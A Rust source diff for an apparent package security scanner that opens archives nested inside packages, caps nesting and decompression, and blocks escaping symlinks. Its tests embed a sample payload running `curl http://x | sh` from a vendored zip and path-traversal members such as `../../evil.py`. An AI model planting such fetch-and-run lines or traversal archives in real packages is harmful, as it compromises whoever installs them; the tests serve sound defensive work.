@@ -8,6 +8,13 @@
 //! unpacks the archive, and the whole archive is refused naming that member.
 //! Every size cap (input, member, total, member count, compression ratio) is
 //! enforced while reading, so memory stays bounded on a decompression bomb.
+//!
+//! An archive inside the package (a vendored `.zip` that `sys.path` imports
+//! from, a `.tar.gz` that `setup.py` unpacks, a file that is a zip whatever
+//! its name) is opened by its content, up to `limits.max-nesting` levels, and
+//! its files are read as a folder under its own path, under the same caps: a
+//! payload must not hide from the pre-check by being zipped once more.
+//! Deeper nesting, or an inner archive that cannot be read, blocks.
 
 use std::collections::BTreeSet;
 use std::io::{Cursor, Read};
@@ -32,7 +39,8 @@ impl ArchiveFormat {
             Some(ArchiveFormat::TarBz2)
         } else if name.ends_with(".tar") {
             Some(ArchiveFormat::Tar)
-        } else if name.ends_with(".zip") || name.ends_with(".whl") {
+        } else if name.ends_with(".zip") || name.ends_with(".whl") || name.ends_with(".egg") {
+            // An egg is a zip that Python imports from as it is.
             Some(ArchiveFormat::Zip)
         } else {
             None
@@ -63,6 +71,85 @@ impl ArchiveFormat {
             None
         }
     }
+
+    /// The format of a member's bytes when they are an archive, by stricter
+    /// magic than [`ArchiveFormat::sniff`]: every member is tested, and a
+    /// text that merely begins with `BZh` must not be taken for one (an
+    /// inner archive that fails to read blocks the package). A gzip or
+    /// bzip2 stream may hold a tar or a single file; both are opened.
+    pub fn sniff_member(bytes: &[u8]) -> Option<ArchiveFormat> {
+        const BZ_BLOCK: [u8; 6] = [0x31, 0x41, 0x59, 0x26, 0x53, 0x59];
+        const BZ_END: [u8; 6] = [0x17, 0x72, 0x45, 0x38, 0x50, 0x90];
+        if bytes.starts_with(&[0x1f, 0x8b, 0x08]) {
+            Some(ArchiveFormat::TarGz)
+        } else if bytes.len() >= 10
+            && bytes.starts_with(b"BZh")
+            && (b'1'..=b'9').contains(&bytes[3])
+            && (bytes[4..10] == BZ_BLOCK || bytes[4..10] == BZ_END)
+        {
+            Some(ArchiveFormat::TarBz2)
+        } else if bytes.starts_with(b"PK\x03\x04") || bytes.starts_with(b"PK\x05\x06") {
+            Some(ArchiveFormat::Zip)
+        } else if is_tar_header(bytes) {
+            Some(ArchiveFormat::Tar)
+        } else {
+            None
+        }
+    }
+}
+
+/// Package archive names Canary knows but cannot read, and what they are
+/// (with an article):
+/// a folder of packages must not pass such a file over as "not a package".
+pub fn unreadable_package_format(path: &Path) -> Option<&'static str> {
+    let name = path.file_name()?.to_string_lossy().to_ascii_lowercase();
+    const NAMES: &[(&str, &str)] = &[
+        (".tar.xz", "an xz-compressed tar"),
+        (".txz", "an xz-compressed tar"),
+        (".tar.zst", "a zstd-compressed tar"),
+        (".tzst", "a zstd-compressed tar"),
+        (".tar.lz", "an lzip-compressed tar"),
+        (".tar.lzma", "an lzma-compressed tar"),
+        (".tlz", "an lzma-compressed tar"),
+        (".tar.z", "a compress(1)-compressed tar"),
+        (".7z", "a 7-Zip"),
+        (".rar", "a RAR"),
+    ];
+    NAMES
+        .iter()
+        .find(|(ext, _)| name.ends_with(ext))
+        .map(|(_, what)| *what)
+}
+
+/// Whether `h` begins with a POSIX (ustar) or GNU tar header whose checksum
+/// holds: the magic alone could occur in text.
+fn is_tar_header(h: &[u8]) -> bool {
+    if h.len() < 512 || &h[257..262] != b"ustar" {
+        return false;
+    }
+    let field = &h[148..156];
+    let digits = field
+        .iter()
+        .skip_while(|&&b| b == b' ')
+        .take_while(|b| (b'0'..=b'7').contains(*b));
+    let mut stored: u32 = 0;
+    let mut any = false;
+    for &d in digits {
+        any = true;
+        stored = match stored.checked_mul(8) {
+            Some(v) => v + u32::from(d - b'0'),
+            None => return false,
+        };
+    }
+    // The sum of the header's bytes with the checksum field read as spaces;
+    // some old writers summed signed bytes.
+    let (mut unsigned, mut signed) = (0u32, 0i32);
+    for (i, &b) in h[..512].iter().enumerate() {
+        let b = if (148..156).contains(&i) { b' ' } else { b };
+        unsigned += u32::from(b);
+        signed += i32::from(b as i8);
+    }
+    any && (stored == unsigned || i64::from(stored) == i64::from(signed))
 }
 
 /// One regular file of a package.
@@ -86,6 +173,8 @@ pub enum ArchiveError {
     Escape { member: String, why: String },
     #[error("archive member {member:?} is written through the link {link:?}; an archive that writes through a link is an attack on whoever unpacks it")]
     ThroughLink { member: String, link: String },
+    #[error("{member:?} is a symbolic link to {target:?}, outside the package folder: what it reaches was never read, and a build or install from this folder would read it; scan the target on its own, or put the file itself in the folder")]
+    LinkOutside { member: String, target: String },
     #[error(
         "archive member {member:?} appears twice; a later copy could overwrite what a reviewer saw"
     )]
@@ -235,6 +324,53 @@ impl Budget {
 /// Largest buffer reserved on an archive's word before any byte is read.
 const MAX_SIZE_HINT: u64 = 16 << 20;
 
+/// The bytes that decide whether a member is binary (a NUL among them), as
+/// the renderer decides it.
+pub const BINARY_PROBE: usize = 8192;
+
+impl Budget {
+    /// A member of an inner archive. It is read whole only when it is text
+    /// or itself an archive: a binary renders as one `Binary file` line
+    /// whatever it holds, so its first [`BINARY_PROBE`] bytes (which decide
+    /// that), its size and its checksum stand in for the rest, which is not
+    /// decompressed. Packages carry large, highly compressible binary data
+    /// in inner archives (scipy's `.npz` test matrices: 177 MB from 276 KB),
+    /// which would otherwise trip the caps meant for bombs.
+    fn read_inner_member(
+        &mut self,
+        name: &str,
+        reader: &mut dyn Read,
+        compressed: Option<u64>,
+        declared: u64,
+        checksum: Option<u32>,
+    ) -> Result<Vec<u8>, ArchiveError> {
+        let mut head = Vec::with_capacity(BINARY_PROBE);
+        reader
+            .take(BINARY_PROBE as u64)
+            .read_to_end(&mut head)
+            .map_err(|e| ArchiveError::Corrupt(format!("reading member {name:?}: {e}")))?;
+        if head.len() < BINARY_PROBE
+            || !head.contains(&0)
+            || ArchiveFormat::sniff_member(&head).is_some()
+        {
+            return self.read_member_capped(
+                name,
+                &mut Cursor::new(head).chain(reader),
+                compressed,
+                declared,
+            );
+        }
+        self.total += head.len() as u64;
+        // After the probe, so the line is still binary; in a version diff
+        // two copies differ when their probe, size or checksum does.
+        let crc = checksum.map_or_else(|| "none".to_string(), |c| format!("{c:08x}"));
+        head.extend_from_slice(
+            format!("\n[canary: binary, {declared} bytes declared, crc32 {crc}; not read past the first {BINARY_PROBE}]").as_bytes(),
+        );
+        Ok(head)
+    }
+}
+
 /// Checks a member path and returns it normalised (no `./`, `/`-separated).
 pub fn check_member_path(raw: &[u8]) -> Result<String, ArchiveError> {
     let shown = String::from_utf8_lossy(raw).into_owned();
@@ -289,8 +425,35 @@ struct Collector<'a> {
     package: Package,
     seen: BTreeSet<String>,
     links: BTreeSet<String>,
+    /// Archives found inside the package and read as folders.
+    nested: Vec<String>,
     /// Takes the members instead of `package.members` when set.
     sink: Option<MemberSink<'a>>,
+}
+
+/// Where a reader is: inside the package itself (depth 0, no prefix), or
+/// inside an archive found in it, whose path prefixes its members' paths.
+#[derive(Clone, Copy)]
+struct Within<'p> {
+    prefix: &'p str,
+    depth: u32,
+}
+
+impl Within<'_> {
+    const TOP: Within<'static> = Within {
+        prefix: "",
+        depth: 0,
+    };
+
+    /// A member's path in the package: its path in this archive, under the
+    /// archive's own path when it is an inner one.
+    fn full(&self, path: &str) -> String {
+        if self.prefix.is_empty() {
+            path.to_string()
+        } else {
+            format!("{}/{path}", self.prefix)
+        }
+    }
 }
 
 impl<'a> Collector<'a> {
@@ -299,6 +462,7 @@ impl<'a> Collector<'a> {
             package: Package::default(),
             seen: BTreeSet::new(),
             links: BTreeSet::new(),
+            nested: Vec::new(),
             sink,
         }
     }
@@ -317,13 +481,24 @@ impl<'a> Collector<'a> {
         None
     }
 
+    /// Checks that a file's path is written through no link and only once.
+    fn claim(&mut self, path: &str) -> Result<(), ArchiveError> {
+        if let Some(link) = self.through_link(path) {
+            return Err(ArchiveError::ThroughLink {
+                member: path.to_string(),
+                link,
+            });
+        }
+        if !self.seen.insert(path.to_string()) {
+            return Err(ArchiveError::Duplicate {
+                member: path.to_string(),
+            });
+        }
+        Ok(())
+    }
+
     fn file(&mut self, path: String, data: Vec<u8>) -> Result<(), ArchiveError> {
-        if let Some(link) = self.through_link(&path) {
-            return Err(ArchiveError::ThroughLink { member: path, link });
-        }
-        if !self.seen.insert(path.clone()) {
-            return Err(ArchiveError::Duplicate { member: path });
-        }
+        self.claim(&path)?;
         let m = Member { path, data };
         match self.sink.as_mut() {
             Some(sink) => sink(m),
@@ -332,13 +507,25 @@ impl<'a> Collector<'a> {
         Ok(())
     }
 
-    fn link(&mut self, path: String, target: &str, hard: bool) -> Result<(), ArchiveError> {
-        if let Some(link) = self.through_link(&path) {
-            return Err(ArchiveError::ThroughLink { member: path, link });
+    /// A link at `path` in the archive being read (`at`): whether it escapes
+    /// is judged from that archive's root, since that is where it would be
+    /// unpacked.
+    fn link(
+        &mut self,
+        path: &str,
+        at: Within,
+        target: &str,
+        hard: bool,
+    ) -> Result<(), ArchiveError> {
+        let full = at.full(path);
+        if let Some(link) = self.through_link(&full) {
+            return Err(ArchiveError::ThroughLink { member: full, link });
         }
-        if link_escapes(&path, target) {
+        // Inside an inner archive, an escaping link is noted like any other
+        // (see `member_path`): nothing is followed either way.
+        if at.depth == 0 && link_escapes(path, target) {
             return Err(ArchiveError::Escape {
-                member: path,
+                member: full,
                 why: format!(
                     "{} to {target:?} points outside the archive",
                     if hard { "hard link" } else { "symlink" }
@@ -346,12 +533,107 @@ impl<'a> Collector<'a> {
             });
         }
         self.package.notes.push(format!(
-            "{} {path} -> {target} not followed",
+            "{} {full} -> {target} not followed",
             if hard { "hard link" } else { "symlink" }
         ));
-        self.links.insert(path);
+        self.links.insert(full);
         Ok(())
     }
+
+    /// One note naming the inner archives read (the first few, then a
+    /// count), so a report says where its deeper paths come from.
+    fn note_nested(&mut self, limits: &Limits) {
+        const SHOWN: usize = 5;
+        let n = self.nested.len();
+        if n == 0 {
+            return;
+        }
+        let mut names = self.nested[..n.min(SHOWN)].join(", ");
+        if n > SHOWN {
+            names.push_str(&format!(" and {} more", n - SHOWN));
+        }
+        self.package.notes.push(format!(
+            "{n} archive(s) inside the package opened and read as folders under their own paths (limits.max-nesting = {}): {names}",
+            limits.max_nesting
+        ));
+    }
+}
+
+/// Hands a regular file to the collector, or, when its bytes are an
+/// archive, reads that archive's files in its place (its path becomes their
+/// folder). `depth`: how many archives deep the file itself sits.
+fn emit(
+    c: &mut Collector,
+    budget: &mut Budget,
+    path: String,
+    data: Vec<u8>,
+    depth: u32,
+) -> Result<(), ArchiveError> {
+    let Some(format) = ArchiveFormat::sniff_member(&data) else {
+        return c.file(path, data);
+    };
+    let max = budget.limits.max_nesting;
+    if depth >= max {
+        return Err(ArchiveError::Limit {
+            what: format!(
+                "member {path:?} is itself a {} archive, {} archive(s) deep, and only {max} level(s) are opened",
+                format.describe(),
+                depth + 1
+            ),
+            key: "max-nesting",
+            limit: u64::from(max),
+        });
+    }
+    c.claim(&path)?;
+    c.nested.push(path.clone());
+    let at = Within {
+        prefix: &path,
+        depth: depth + 1,
+    };
+    let result = match format {
+        ArchiveFormat::Zip => read_zip(&data, budget, c, at),
+        ArchiveFormat::Tar => read_tar(&data[..], budget, c, at),
+        ArchiveFormat::TarGz => read_stream(flate2::read::GzDecoder::new(&data[..]), budget, c, at),
+        ArchiveFormat::TarBz2 => read_stream(bzip2::read::BzDecoder::new(&data[..]), budget, c, at),
+    };
+    result.map_err(|e| match e {
+        ArchiveError::Corrupt(why) => {
+            ArchiveError::Corrupt(format!("archive inside the package at {path:?}: {why}"))
+        }
+        other => other,
+    })
+}
+
+/// An inner gzip or bzip2 stream: a tar when its first block is a tar
+/// header, else one compressed file, read as `ARCHIVE/NAME` where NAME is
+/// the archive's name without `.gz` or `.bz2` (`data.csv.gz/data.csv`).
+fn read_stream<R: Read>(
+    mut reader: R,
+    budget: &mut Budget,
+    c: &mut Collector,
+    at: Within,
+) -> Result<(), ArchiveError> {
+    let mut head = Vec::with_capacity(512);
+    reader
+        .by_ref()
+        .take(512)
+        .read_to_end(&mut head)
+        .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
+    let mut whole = Cursor::new(head).chain(reader);
+    if is_tar_header(whole.get_ref().0.get_ref()) {
+        return read_tar(whole, budget, c, at);
+    }
+    let name = at.prefix.rsplit('/').next().unwrap_or(at.prefix);
+    let lower = name.to_ascii_lowercase();
+    let inner = [".gz", ".bz2"]
+        .iter()
+        .find(|ext| lower.len() > ext.len() && lower.ends_with(*ext))
+        .map(|ext| name[..name.len() - ext.len()].to_string())
+        .unwrap_or_else(|| format!("{name}.decompressed"));
+    let full = at.full(&inner);
+    budget.add_member(&full)?;
+    let data = budget.read_member(&full, &mut whole, 0)?;
+    emit(c, budget, full, data, at.depth)
 }
 
 /// Reads an archive from memory.
@@ -375,12 +657,14 @@ pub fn read_archive_with(
 ) -> Result<Package, ArchiveError> {
     let mut budget = Budget::new(limits, bytes.len() as u64);
     let mut c = Collector::new(sink);
+    let (b, at) = (&mut budget, Within::TOP);
     match format {
-        ArchiveFormat::TarGz => read_tar(flate2::read::GzDecoder::new(bytes), &mut budget, &mut c)?,
-        ArchiveFormat::TarBz2 => read_tar(bzip2::read::BzDecoder::new(bytes), &mut budget, &mut c)?,
-        ArchiveFormat::Tar => read_tar(bytes, &mut budget, &mut c)?,
-        ArchiveFormat::Zip => read_zip(bytes, &mut budget, &mut c)?,
+        ArchiveFormat::TarGz => read_tar(flate2::read::GzDecoder::new(bytes), b, &mut c, at)?,
+        ArchiveFormat::TarBz2 => read_tar(bzip2::read::BzDecoder::new(bytes), b, &mut c, at)?,
+        ArchiveFormat::Tar => read_tar(bytes, b, &mut c, at)?,
+        ArchiveFormat::Zip => read_zip(bytes, b, &mut c, at)?,
     }
+    c.note_nested(limits);
     Ok(c.package)
 }
 
@@ -388,6 +672,7 @@ fn read_tar<R: Read>(
     reader: R,
     budget: &mut Budget,
     c: &mut Collector,
+    at: Within,
 ) -> Result<(), ArchiveError> {
     let mut archive = tar::Archive::new(reader);
     let entries = archive
@@ -396,7 +681,7 @@ fn read_tar<R: Read>(
     for entry in entries {
         let mut entry = entry.map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
         let raw_path = entry.path_bytes().into_owned();
-        let name = String::from_utf8_lossy(&raw_path).into_owned();
+        let name = at.full(&String::from_utf8_lossy(&raw_path));
         budget.add_member(&name)?;
         let kind = entry.header().entry_type();
         if kind.is_pax_global_extensions()
@@ -406,9 +691,9 @@ fn read_tar<R: Read>(
         {
             continue;
         }
-        let path = check_member_path(&raw_path)?;
+        let path = member_path(&raw_path, at, c)?;
         if kind.is_dir() {
-            if let Some(link) = c.through_link(&format!("{path}/x")) {
+            if let Some(link) = c.through_link(&at.full(&format!("{path}/x"))) {
                 return Err(ArchiveError::ThroughLink { member: name, link });
             }
             continue;
@@ -424,29 +709,63 @@ fn read_tar<R: Read>(
                     why: "NUL byte in the link target".into(),
                 });
             }
-            c.link(path, &target, kind.is_hard_link())?;
+            c.link(&path, at, &target, kind.is_hard_link())?;
             continue;
         }
         if !(kind.is_file()
             || kind == tar::EntryType::Continuous
             || kind == tar::EntryType::GNUSparse)
         {
-            c.package
-                .notes
-                .push(format!("{path}: not a regular file ({kind:?}), skipped"));
+            c.package.notes.push(format!(
+                "{}: not a regular file ({kind:?}), skipped",
+                at.full(&path)
+            ));
             continue;
         }
         if path.is_empty() {
             continue;
         }
+        let path = at.full(&path);
         let declared = entry.size();
-        let data = budget.read_member(&path, &mut entry, declared)?;
-        c.file(path, data)?;
+        let data = if at.depth == 0 {
+            budget.read_member(&path, &mut entry, declared)?
+        } else {
+            budget.read_inner_member(&path, &mut entry, None, declared, None)?
+        };
+        emit(c, budget, path, data, at.depth)?;
     }
     Ok(())
 }
 
-fn read_zip(bytes: &[u8], budget: &mut Budget, c: &mut Collector) -> Result<(), ArchiveError> {
+/// A member's path in the archive being read. At the top, one that escapes
+/// the root blocks the package: it attacks whoever unpacks it. Inside an
+/// inner archive it attacks only whoever unpacks *that* archive, which
+/// installing the package does not do by itself, and packages ship such
+/// archives as test fixtures (Django's `traversal_archives`); there it is
+/// noted, and the member is read under its raw name, so its content is
+/// still judged.
+fn member_path(raw: &[u8], at: Within, c: &mut Collector) -> Result<String, ArchiveError> {
+    match check_member_path(raw) {
+        Err(ArchiveError::Escape { member, why }) if at.depth > 0 => {
+            let raw = member.replace('\0', "\\0");
+            let path = raw.trim_start_matches(['/', '\\']).to_string();
+            c.package.notes.push(format!(
+                "{}: member {member:?} of an archive inside the package escapes that archive's root ({why}); read as {:?}",
+                at.prefix,
+                at.full(&path)
+            ));
+            Ok(path)
+        }
+        other => other,
+    }
+}
+
+fn read_zip(
+    bytes: &[u8],
+    budget: &mut Budget,
+    c: &mut Collector,
+    at: Within,
+) -> Result<(), ArchiveError> {
     let mut zip = zip::ZipArchive::new(Cursor::new(bytes))
         .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
     if zip.len() as u64 > budget.limits.max_members {
@@ -465,9 +784,9 @@ fn read_zip(bytes: &[u8], budget: &mut Budget, c: &mut Collector) -> Result<(), 
             .by_index(i)
             .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
         let raw = f.name_raw().to_vec();
-        let name = String::from_utf8_lossy(&raw).into_owned();
+        let name = at.full(&String::from_utf8_lossy(&raw));
         budget.add_member(&name)?;
-        let path = check_member_path(&raw)?;
+        let path = member_path(&raw, at, c)?;
         if f.is_dir() || path.is_empty() {
             continue;
         }
@@ -477,10 +796,13 @@ fn read_zip(bytes: &[u8], budget: &mut Budget, c: &mut Collector) -> Result<(), 
                 .take(4096)
                 .read_to_end(&mut target)
                 .map_err(|e| ArchiveError::Corrupt(e.to_string()))?;
-            c.link(path, &String::from_utf8_lossy(&target), false)?;
+            c.link(&path, at, &String::from_utf8_lossy(&target), false)?;
             continue;
         }
-        if f.size() > budget.limits.max_member_bytes {
+        let path = at.full(&path);
+        // An inner archive's binary is not read past its probe, so its
+        // declared size says nothing about memory; its text is capped as read.
+        if at.depth == 0 && f.size() > budget.limits.max_member_bytes {
             return Err(ArchiveError::Limit {
                 what: format!(
                     "member {path:?} declares {} bytes, more than {}",
@@ -493,13 +815,21 @@ fn read_zip(bytes: &[u8], budget: &mut Budget, c: &mut Collector) -> Result<(), 
         }
         let compressed = f.compressed_size();
         let declared = f.size();
-        let data = budget.read_member_capped(&path, &mut f, Some(compressed), declared)?;
-        c.file(path, data)?;
+        let data = if at.depth == 0 {
+            budget.read_member_capped(&path, &mut f, Some(compressed), declared)?
+        } else {
+            let crc = f.crc32();
+            budget.read_inner_member(&path, &mut f, Some(compressed), declared, Some(crc))?
+        };
+        drop(f);
+        emit(c, budget, path, data, at.depth)?;
     }
     Ok(())
 }
 
-/// Reads an unpacked package directory. Links are noted, never followed.
+/// Reads an unpacked package directory. Links are noted, never followed; a
+/// link whose target lies outside the folder blocks, since a build from the
+/// folder would read what it reaches and the scan never did.
 pub fn read_dir(root: &Path, limits: &Limits) -> Result<Package, ArchiveError> {
     let mut budget = Budget::new(limits, u64::MAX / 2);
     let mut c = Collector::new(None);
@@ -523,8 +853,14 @@ pub fn read_dir(root: &Path, limits: &Limits) -> Result<Package, ArchiveError> {
                 .map_err(|err| ArchiveError::Io(format!("{rel}: {err}")))?;
             if ft.is_symlink() {
                 let target = std::fs::read_link(&p)
-                    .map(|t| t.display().to_string())
-                    .unwrap_or_default();
+                    .map(|t| t.to_string_lossy().into_owned())
+                    .map_err(|err| ArchiveError::Io(format!("{rel}: {err}")))?;
+                if link_escapes(&rel, &target) {
+                    return Err(ArchiveError::LinkOutside {
+                        member: rel,
+                        target,
+                    });
+                }
                 c.package
                     .notes
                     .push(format!("symlink {rel} -> {target} not followed"));
@@ -535,7 +871,7 @@ pub fn read_dir(root: &Path, limits: &Limits) -> Result<Package, ArchiveError> {
                     .map_err(|err| ArchiveError::Io(format!("{rel}: {err}")))?;
                 let declared = f.metadata().map(|m| m.len()).unwrap_or(0);
                 let data = budget.read_member(&rel, &mut f, declared)?;
-                c.file(rel, data)?;
+                emit(&mut c, &mut budget, rel, data, 0)?;
             } else {
                 c.package
                     .notes
@@ -543,6 +879,7 @@ pub fn read_dir(root: &Path, limits: &Limits) -> Result<Package, ArchiveError> {
             }
         }
     }
+    c.note_nested(limits);
     Ok(c.package)
 }
 
@@ -599,6 +936,274 @@ mod tests {
             ArchiveFormat::sniff(b"PK\x03\x04rest"),
             Some(ArchiveFormat::Zip)
         );
+    }
+
+    fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut b = tar::Builder::new(Vec::new());
+        for (name, data) in files {
+            let mut h = tar::Header::new_gnu();
+            h.set_size(data.len() as u64);
+            h.set_mode(0o644);
+            h.set_entry_type(tar::EntryType::Regular);
+            // Raw, so a test can write `..`, which set_path refuses.
+            h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+            h.set_cksum();
+            b.append(&h, *data).unwrap();
+        }
+        b.into_inner().unwrap()
+    }
+
+    fn gz(data: &[u8]) -> Vec<u8> {
+        use std::io::Write;
+        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        e.write_all(data).unwrap();
+        e.finish().unwrap()
+    }
+
+    fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
+        use std::io::Write;
+        let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        for (name, data) in files {
+            z.start_file(*name, zip::write::SimpleFileOptions::default())
+                .unwrap();
+            z.write_all(data).unwrap();
+        }
+        z.finish().unwrap().into_inner()
+    }
+
+    fn paths(p: &Package) -> Vec<&str> {
+        p.members.iter().map(|m| m.path.as_str()).collect()
+    }
+
+    fn member<'p>(p: &'p Package, path: &str) -> &'p [u8] {
+        &p.members.iter().find(|m| m.path == path).unwrap().data
+    }
+
+    #[test]
+    fn an_archive_inside_the_package_is_read_as_a_folder_by_its_content() {
+        // A payload importable from a vendored zip (zipimport), a zip with a
+        // harmless name, a tarball and a gzip-compressed file.
+        let payload = b"import os\nos.system('curl http://x | sh')\n";
+        let inner = zip_of(&[("evil/__init__.py", payload)]);
+        let tgz = gz(&tar_of(&[("lib/a.py", b"A = 1\n")]));
+        let outer = gz(&tar_of(&[
+            (
+                "pkg/setup.py",
+                b"import sys\nsys.path.insert(0, 'vendor/lib.zip')\n",
+            ),
+            ("pkg/vendor/lib.zip", &inner),
+            ("pkg/data/blob.bin", &inner),
+            ("pkg/vendor/more.tar.gz", &tgz),
+            ("pkg/data/rows.csv.gz", &gz(b"a,b\n1,2\n")),
+        ]));
+        let p = read_archive(&outer, ArchiveFormat::TarGz, &Limits::default()).unwrap();
+        assert_eq!(
+            paths(&p),
+            [
+                "pkg/setup.py",
+                "pkg/vendor/lib.zip/evil/__init__.py",
+                "pkg/data/blob.bin/evil/__init__.py",
+                "pkg/vendor/more.tar.gz/lib/a.py",
+                "pkg/data/rows.csv.gz/rows.csv",
+            ]
+        );
+        assert_eq!(member(&p, "pkg/vendor/lib.zip/evil/__init__.py"), payload);
+        assert_eq!(member(&p, "pkg/data/rows.csv.gz/rows.csv"), b"a,b\n1,2\n");
+        let note = p.notes.iter().find(|n| n.contains("inside the package"));
+        assert!(
+            note.is_some_and(|n| n.starts_with("4 archive(s)") && n.contains("pkg/vendor/lib.zip")),
+            "{:?}",
+            p.notes
+        );
+        // The same package unpacked in a folder reads the same way.
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("vendor")).unwrap();
+        std::fs::write(dir.path().join("vendor/lib.zip"), &inner).unwrap();
+        let d = read_dir(dir.path(), &Limits::default()).unwrap();
+        assert_eq!(paths(&d), ["vendor/lib.zip/evil/__init__.py"]);
+    }
+
+    #[test]
+    fn nesting_past_the_cap_blocks_naming_the_member_and_the_cap() {
+        let innermost = zip_of(&[("x.py", b"x = 1\n")]);
+        let middle = zip_of(&[("inner.zip", &innermost)]);
+        let outer = tar_of(&[("pkg/middle.zip", &middle)]);
+        let err = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap_err();
+        match err {
+            ArchiveError::Limit { key, what, limit } => {
+                assert_eq!((key, limit), ("max-nesting", 1));
+                assert!(what.contains("pkg/middle.zip/inner.zip"), "{what}");
+            }
+            other => panic!("expected the nesting cap, got {other:?}"),
+        }
+        // One level more is read when the config allows it, and none when it
+        // says 0 (an inner archive then blocks: it is not left unread).
+        let two = Limits {
+            max_nesting: 2,
+            ..Limits::default()
+        };
+        let p = read_archive(&outer, ArchiveFormat::Tar, &two).unwrap();
+        assert_eq!(paths(&p), ["pkg/middle.zip/inner.zip/x.py"]);
+        let none = Limits {
+            max_nesting: 0,
+            ..Limits::default()
+        };
+        let one = tar_of(&[("pkg/inner.zip", &innermost)]);
+        assert!(matches!(
+            read_archive(&one, ArchiveFormat::Tar, &none),
+            Err(ArchiveError::Limit {
+                key: "max-nesting",
+                ..
+            })
+        ));
+    }
+
+    #[test]
+    fn a_corrupt_inner_archive_blocks_naming_it() {
+        let mut broken = zip_of(&[("x.py", b"x = 1\n")]);
+        broken.truncate(broken.len() / 2);
+        let outer = tar_of(&[("pkg/vendor/lib.zip", &broken)]);
+        match read_archive(&outer, ArchiveFormat::Tar, &Limits::default()) {
+            Err(ArchiveError::Corrupt(why)) => {
+                assert!(
+                    why.contains("inside the package at \"pkg/vendor/lib.zip\""),
+                    "{why}"
+                )
+            }
+            other => panic!("expected a corrupt inner archive, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn an_inner_archive_may_hold_traversal_fixtures_but_the_package_may_not() {
+        // Django ships archives with `..` members to test its own unpacking;
+        // installing the package unpacks none of them.
+        let fixture = tar_of(&[("foo/../../evil.py", b"print(1)\n")]);
+        let outer = tar_of(&[("pkg/tests/traversal.tar", &fixture)]);
+        let p = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap();
+        assert_eq!(paths(&p), ["pkg/tests/traversal.tar/foo/../../evil.py"]);
+        assert!(
+            p.notes
+                .iter()
+                .any(|n| n.contains("escapes that archive's root")),
+            "{:?}",
+            p.notes
+        );
+        let top = tar_of(&[("pkg/../../evil.py", b"print(1)\n")]);
+        assert!(matches!(
+            read_archive(&top, ArchiveFormat::Tar, &Limits::default()),
+            Err(ArchiveError::Escape { .. })
+        ));
+    }
+
+    #[test]
+    fn an_inner_binary_is_read_to_its_probe_so_bombs_and_big_data_cost_nothing() {
+        // 256 MiB of zeros deflate to about 256 KB: past the ratio and member
+        // caps if read, but a binary renders as one line whatever it holds.
+        use std::io::Write;
+        let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        z.start_file("big.npy", zip::write::SimpleFileOptions::default())
+            .unwrap();
+        let zeros = vec![0u8; 1 << 20];
+        for _ in 0..256 {
+            z.write_all(&zeros).unwrap();
+        }
+        let npz = z.finish().unwrap().into_inner();
+        let outer = tar_of(&[("pkg/data/m.npz", &npz)]);
+        let p = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap();
+        let data = member(&p, "pkg/data/m.npz/big.npy");
+        assert!(data.len() < 2 * BINARY_PROBE, "{}", data.len());
+        assert!(data[..BINARY_PROBE].iter().all(|&b| b == 0));
+        let tail = String::from_utf8_lossy(&data[BINARY_PROBE..]).into_owned();
+        assert!(
+            tail.contains(&format!("{} bytes declared", 256u64 << 20)),
+            "{tail}"
+        );
+        // A text in an inner archive is read whole, under the same caps.
+        let text = zip_of(&[("big.py", &vec![b'a'; 2 << 20])]);
+        let small = Limits {
+            max_member_bytes: 1 << 20,
+            ..Limits::default()
+        };
+        let outer = tar_of(&[("pkg/vendor/t.zip", &text)]);
+        assert!(matches!(
+            read_archive(&outer, ArchiveFormat::Tar, &small),
+            Err(ArchiveError::Limit {
+                key: "max-member-bytes",
+                ..
+            })
+        ));
+    }
+
+    #[test]
+    fn members_are_taken_for_archives_only_by_strict_magic() {
+        // Texts that begin like bzip2, or hold "ustar" where a tar header
+        // would, are files: an inner archive that fails to read blocks.
+        let mut ustar = vec![b'x'; 600];
+        ustar[257..262].copy_from_slice(b"ustar");
+        for text in [&b"BZh9 is how a bzip2 stream begins"[..], &ustar] {
+            assert_eq!(ArchiveFormat::sniff_member(text), None);
+        }
+        let tar = tar_of(&[("a.py", b"x")]);
+        assert_eq!(ArchiveFormat::sniff_member(&tar), Some(ArchiveFormat::Tar));
+        let mut bad = tar.clone();
+        bad[0] ^= 1; // the checksum no longer holds
+        assert_eq!(ArchiveFormat::sniff_member(&bad), None);
+        let mut bz = Vec::new();
+        bzip2::read::BzEncoder::new(&b"hello"[..], bzip2::Compression::fast())
+            .read_to_end(&mut bz)
+            .unwrap();
+        assert_eq!(
+            ArchiveFormat::sniff_member(&bz),
+            Some(ArchiveFormat::TarBz2)
+        );
+        assert_eq!(
+            ArchiveFormat::sniff_member(&gz(b"x")),
+            Some(ArchiveFormat::TarGz)
+        );
+    }
+
+    #[test]
+    fn eggs_are_zips_and_unreadable_formats_are_named() {
+        assert_eq!(
+            ArchiveFormat::from_path(Path::new("x-1.0-py3.8.egg")),
+            Some(ArchiveFormat::Zip)
+        );
+        assert_eq!(
+            unreadable_package_format(Path::new("x-1.0.tar.xz")),
+            Some("an xz-compressed tar")
+        );
+        assert_eq!(unreadable_package_format(Path::new("x-1.0.tar.gz")), None);
+        assert_eq!(unreadable_package_format(Path::new("index.html")), None);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_folder_link_that_leaves_the_folder_blocks_and_one_inside_is_noted() {
+        let dir = tempfile::tempdir().unwrap();
+        let pkg = dir.path().join("pkg");
+        std::fs::create_dir_all(pkg.join("lib")).unwrap();
+        std::fs::write(pkg.join("lib/real.py"), b"x = 1\n").unwrap();
+        std::fs::write(dir.path().join("outside.py"), b"import os\n").unwrap();
